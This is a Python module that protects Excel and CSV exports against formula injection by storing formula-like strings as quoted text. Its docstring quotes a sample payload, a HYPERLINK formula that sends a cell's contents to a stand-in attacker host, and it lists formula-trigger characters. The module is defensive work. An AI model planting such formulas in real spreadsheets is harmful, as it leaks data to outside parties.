"""Writing Excel rows that cannot turn into formulas (CSV/formula injection; OWASP; issue 12 item 3).

A suggestion titled ``=HYPERLINK("http://evil.example/?"&A1,"详情")`` must reach the staff's and the
units' spreadsheets as that text, not as a live formula. openpyxl stores any string starting with ``=``
as a formula, and Excel also evaluates cells starting with ``+``, ``-`` or ``@`` (and DDE payloads
after a tab or carriage return). Every exported row goes through :func:`append_row`, which stores
such a string as a text cell with Excel's "quote prefix" (the cell stays text when edited). The text
itself is unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

#: First characters that make a spreadsheet treat a cell as a formula or command.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet would evaluate (starts with ``= + - @``, tab or CR)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell: Cell) -> None:
    """Make ``cell`` (holding a formula-like string) a plain text cell with the quote prefix."""
    cell.data_type = "s"
    cell.quotePrefix = True


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """``ws.append(values)``, with every formula-like string stored as text.

    Args:
        ws: an openpyxl worksheet (not write-only).
        values: the row's cell values (numbers, dates and ``None`` are written as they are).
    """
    row = list(values)
    ws.append(row)
    r = ws.max_row
    for i, value in enumerate(row, 1):
        if is_formula_like(value):
            as_text(ws.cell(row=r, column=i))


def csv_cell(value: Any) -> Any:
    """A value for a CSV file: formula-like text gets a leading apostrophe (CSV has no cell types, so
    Excel would evaluate it on opening; OWASP's CSV-injection advice); other values are unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_cell` over a row."""
    return [csv_cell(v) for v in values]
